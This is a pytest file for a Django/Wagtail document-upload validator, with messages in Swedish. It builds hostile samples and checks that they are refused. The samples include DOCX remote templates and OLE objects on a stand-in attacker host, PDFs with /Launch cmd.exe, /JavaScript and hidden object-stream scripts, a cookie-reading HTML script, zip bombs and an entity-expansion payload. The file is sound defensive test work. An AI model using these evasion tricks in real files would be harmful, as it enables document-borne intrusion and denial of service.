"""Hostile documents: programs and web pages in disguise, remote templates, active PDFs, zip bombs.

Each file is built here in memory, posted through both admin upload views, and also handed to
the checking function directly.
"""

import functools
import io
import re
import struct
import zipfile
import zlib

from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from wagtail.documents import get_document_model

import pytest

from pluginnovation.editorial.uploads import validate_document_file
from tests.editorial.test_uploads import (
    DOCX,
    EXECUTABLE,
    ODT,
    PDF,
    assert_refused_everywhere,
    stored_files,
    upload_multiple,
    upload_single,
    zip_bytes,
)

pytestmark = pytest.mark.django_db

Document = get_document_model()
MB = 1024 * 1024
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"
CONTENT_TYPES = "<Types/>"
DOCUMENT = "<w:document/>"


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def docx_with(members=None, comment=b"", compression=zipfile.ZIP_DEFLATED, types=CONTENT_TYPES):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, content in (members or {}).items():
            archive.writestr(name, content)
        archive.comment = comment
    return buffer.getvalue()


def relationships(*relations):
    """A .rels part; each relation is (type suffix, target, extra attributes)."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    lines = [
        f'<Relationship Id="rId{number}" Type="{base}{kind}" Target="{target}" {extra}/>'
        for number, (kind, target, extra) in enumerate(relations, start=1)
    ]
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(lines)
        + "</Relationships>"
    )


EXTERNAL = 'TargetMode="External"'
REMOTE_TEMPLATE = docx_with(
    {
        "word/_rels/settings.xml.rels": relationships(
            ("attachedTemplate", "https://angripare.example/mall.dotm", EXTERNAL)
        )
    }
)
REMOTE_OBJECT = docx_with(
    {
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://skolverket.se/", EXTERNAL),
            ("oleObject", "https://angripare.example/objekt.rtf", EXTERNAL),
        )
    }
)
# Entities, a namespace prefix and single quotes: what an XML parser sees, not the raw text.
DISGUISED_FRAME = docx_with(
    {
        "word/_rels/webSettings.xml.rels": (
            '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/'
            "relationships\"><r:Relationship Id='rId1' TargetMode='&#69;xternal' "
            "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame' "
            "Target='\\\\angripare.example\\dela\\ram.html'/></r:Relationships>"
        )
    }
)
REMOTE_SUBDOCUMENT = docx_with(
    {
        "word/_rels/document.xml.rels": relationships(
            ("subDocument", "http://angripare.example/del.docx", EXTERNAL)
        )
    }
)
LINKED_ODT = zip_bytes(
    {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": (
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
            'office:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
            'xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image '
            'xlink:href="https://angripare.example/spårning.png"/></office:document-content>'
        ),
    }
)
HYPERLINKED_DOCX = docx_with(
    {
        "word/_rels/document.xml.rels": relationships(
            ("hyperlink", "https://www.skolverket.se/", EXTERNAL),
            ("styles", "styles.xml", ""),
        )
    }
)


def pdf_with(body):
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def object_stream(dictionary, number=1):
    """Object `number` packed in a compressed object stream, out of sight of a raw scan."""
    objects = b"%d 0 " % number + dictionary
    packed = zlib.compress(objects)
    first = len(b"%d 0 " % number)
    header = b"<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>" % (first, len(packed))
    return b"5 0 obj" + header + b"stream\n" + packed + b"\nendstream\nendobj"


def pdf_in_object_stream(dictionary):
    return pdf_with(object_stream(dictionary))


ACTIVE_PDFS = {
    "/OpenAction": pdf_with(b"1 0 obj<</OpenAction<</S/URI/URI(https://x.example)>>>>endobj"),
    "/OpenAction that chains": pdf_with(
        b"1 0 obj<</OpenAction 9 0 R>>endobj 9 0 obj<</S/GoTo/D[3 0 R/Fit]/Next 8 0 R>>endobj"
    ),
    "/OpenAction defined twice": pdf_with(
        b"1 0 obj<</OpenAction 9 0 R>>endobj 9 0 obj[3 0 R/Fit]endobj 9 0 obj<</S/Named>>endobj"
    ),
    "/JavaScript": pdf_with(b"2 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"),
    "/JS": pdf_with(b"2 0 obj<</JS 3 0 R>>endobj"),
    "/AA": pdf_with(b"4 0 obj<</Type/Page/AA<</O 2 0 R>>>>endobj"),
    "/Launch": pdf_with(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
    "/EmbeddedFile": pdf_with(b"6 0 obj<</Type/EmbeddedFile/Length 0>>stream\n\nendstream"),
    "/SubmitForm": pdf_with(b"2 0 obj<</S/SubmitForm/F(https://angripare.example)>>endobj"),
    "/RichMedia": pdf_with(b"7 0 obj<</Subtype/RichMedia>>endobj"),
    "hex-escaped /JavaScript": pdf_with(b"2 0 obj<</S/J#61va#53cript/J#53(x)>>endobj"),
    "/JavaScript in an object stream": pdf_in_object_stream(b"<</S/JavaScript/JS(x)>>"),
}


def with_declared_size(archive, name, declared):
    """The archive with one part claiming to be `declared` bytes unpacked, whatever it holds."""
    data = bytearray(archive)
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        local_header = opened.getinfo(name).header_offset
        position = opened.start_dir
    struct.pack_into("<I", data, local_header + 22, declared)
    # Walk the central directory to the part's entry and change its size there too.
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, position + 28)
        if data[position + 46 : position + 46 + name_length] == name.encode():
            struct.pack_into("<I", data, position + 24, declared)
        position += 46 + name_length + extra_length + comment_length
    return bytes(data)


@functools.cache
def zip_bomb():
    """210 MB of zeros in a 200 kB docx."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        with archive.open("word/media/nollor.bin", "w") as part:
            for _ in range(210):
                part.write(bytes(MB))
    return buffer.getvalue()


def packed_tight():
    return docx_with({"word/media/nollor.bin": bytes(20 * MB)})


def many_parts():
    return docx_with({f"word/media/bild{number}.png": b"" for number in range(6000)})


def lying_about_its_size():
    """The relationships part claims 200 bytes and inflates to 50 MB."""
    rels = relationships(("styles", "styles.xml", "")) + " " * (50 * MB)
    archive = docx_with({"word/_rels/document.xml.rels": rels})
    return with_declared_size(archive, "word/_rels/document.xml.rels", 200)


ODT_WITH_MACROS = zip_bytes(
    {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": "<x/>",
        "Basic/Standard/Module1.xml": "<script:module/>",
    }
)
RENAMED_DOCM = docx_with(
    types=(
        '<Types><Override PartName="/word/document.xml" ContentType="application/'
        'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
)
LAUGHS = docx_with(
    {
        "word/_rels/document.xml.rels": (
            '<!DOCTYPE r [<!ENTITY a "hahahahaha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            "<Relationships>&b;</Relationships>"
        )
    }
)


def object_stream_with(filters, content):
    packed = zlib.compress(content)
    dictionary = b"<</Type/ObjStm/N 1/First 4%s/Length %d>>" % (filters, len(packed))
    return pdf_with(b"5 0 obj" + dictionary + b"stream\n" + packed + b"\nendstream\nendobj")


PROGRAM_IN_FRONT = "mer än ett dokument av typen"
MACROS = "Filen innehåller makron"
HTML_INSIDE = "HTML-kod"
FETCHES = "hämtar innehåll från internet"
ACTIVE_PDF = "PDF-filen innehåller aktivt innehåll"
UNPACKS = "packas upp till"

HOSTILE = [
    ("program.docx", EXECUTABLE + DOCX, PROGRAM_IN_FRONT),
    ("program.odt", ELF + ODT, PROGRAM_IN_FRONT),
    ("program.pdf", EXECUTABLE + PDF, "PDF-filen börjar inte med ”%PDF-”"),
    ("program2.pdf", ELF[:16] + PDF, "PDF-filen börjar inte med ”%PDF-”"),
    ("efter.docx", DOCX + EXECUTABLE, PROGRAM_IN_FRONT),
    ("webb.docx", HTML + DOCX, HTML_INSIDE),
    ("webb.pdf", PDF.replace(b"\n", b"\n" + HTML, 1), HTML_INSIDE),
    ("kommentar.docx", docx_with(comment=HTML), HTML_INSIDE),
    ("bakom.docx", DOCX + HTML, HTML_INSIDE),
    ("sida.docx", docx_with({"word/sida.html": HTML}), HTML_INSIDE),
    (
        "lagrad.docx",
        docx_with({"word/a.xml": HTML}, compression=zipfile.ZIP_STORED),
        HTML_INSIDE,
    ),
    (
        "typ.docx",
        docx_with(types='<Types><Default Extension="x" ContentType="text/html"/></Types>'),
        HTML_INSIDE,
    ),
    ("mall.docx", REMOTE_TEMPLATE, FETCHES),
    ("objekt.docx", REMOTE_OBJECT, FETCHES),
    ("ram.docx", DISGUISED_FRAME, FETCHES),
    ("underdokument.docx", REMOTE_SUBDOCUMENT, FETCHES),
    ("bild.odt", LINKED_ODT, FETCHES),
    *[(f"aktiv{number}.pdf", pdf, ACTIVE_PDF) for number, pdf in enumerate(ACTIVE_PDFS.values())],
    ("makron.odt", ODT_WITH_MACROS, MACROS),
    ("makron2.docx", RENAMED_DOCM, MACROS),
]


@pytest.mark.parametrize("name,content,message", HOSTILE)
def test_hostile_documents_are_refused_on_both_upload_paths(
    client, editor, media_root, name, content, message
):
    assert_refused_everywhere(client, editor, media_root, name, content, message)


def test_a_zip_bomb_is_refused_through_the_admin(client, editor, media_root):
    client.force_login(editor)
    response = upload_multiple(client, "bomb.docx", zip_bomb())
    assert UNPACKS in response.json()["error_message"]
    assert stored_files(media_root) == []


def refusal(name, content):
    with pytest.raises(ValidationError) as refused:
        validate_document_file(SimpleUploadedFile(name, content))
    return refused.value


@pytest.mark.parametrize("name,content,message", HOSTILE)
def test_the_check_refuses_hostile_documents(name, content, message):
    assert message in refusal(name, content).messages[0]


@pytest.mark.parametrize("label", ACTIVE_PDFS)
def test_the_pdf_message_names_what_was_found(label):
    name = label.split()[0] if label.startswith("/") else "/JavaScript"
    assert name in refusal("aktiv.pdf", ACTIVE_PDFS[label]).messages[0]


@pytest.mark.parametrize(
    "content,code",
    [
        (zip_bomb, "archive_too_large"),
        (packed_tight, "archive_too_packed"),
        (many_parts, "archive_too_many_parts"),
    ],
)
def test_zip_bombs_are_refused_before_anything_is_unpacked(monkeypatch, content, code):
    data = content()

    def no_unpacking(*args, **kwargs):
        raise AssertionError("a part was opened")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_unpacking)
    error = refusal("bomb.docx", data)
    assert error.code == code
    assert UNPACKS in error.messages[0] or "delar" in error.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        # Hex digits after inflating: the names inside cannot be read.
        object_stream_with(
            b"/Filter[/FlateDecode/ASCIIHexDecode]", b"1 0 <</S/JavaScript>>".hex().encode()
        ),
        # Not Flate at all, as in an encrypted file.
        pdf_with(
            b"5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\n\x8f\x02\x11 junk"
        ),
    ],
)
def test_object_streams_that_cannot_be_read_are_refused(content):
    assert refusal("oläslig.pdf", content).code == "pdf_unreadable"


def test_xml_entity_declarations_are_refused():
    assert refusal("skratt.docx", LAUGHS).code == "content_mismatch"


def test_a_part_that_unpacks_beyond_its_declared_size_is_refused():
    error = refusal("ljuger.docx", lying_about_its_size())
    assert error.code == "content_mismatch"


@pytest.mark.parametrize(
    "name,content",
    [
        ("länkar.docx", HYPERLINKED_DOCX),
        ("bok.pdf", pdf_with(b"1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]>>endobj")),
        # What LaTeX's hyperref writes: a reference to a GoTo action, inside an object stream.
        (
            "latex.pdf",
            pdf_with(
                b"1 0 obj<</Type/Catalog/OpenAction 9 0 R>>endobj\n"
                + object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>", number=9)
            ),
        ),
        ("länk.pdf", pdf_with(b"2 0 obj<</S/URI/URI(https://www.skolverket.se/)>>endobj")),
        ("packad.pdf", pdf_in_object_stream(b"<</Type/Catalog/Pages 2 0 R>>")),
        ("text.odt", ODT),
    ],
)
def test_ordinary_documents_pass(client, editor, name, content):
    validate_document_file(SimpleUploadedFile(name, content))
    client.force_login(editor)
    assert upload_single(client, name, content).status_code == 302


@pytest.mark.parametrize("type_name", ["PDF", "Word-dokument (docx)", "Excel-kalkylblad (xlsx)"])
def test_the_refusals_read_as_swedish_whatever_the_types_gender(type_name):
    """ "inte en giltig Word-dokument": the messages put "en" before a type that may be neuter."""
    from pluginnovation.editorial.upload_checks.messages import MESSAGES

    for code in ("content_mismatch", "macros", "extra_data"):
        text = MESSAGES[code].format(extension="docx", type=type_name)
        assert not re.search(rf"\ben (giltig |vanlig )?{re.escape(type_name)}", text), text
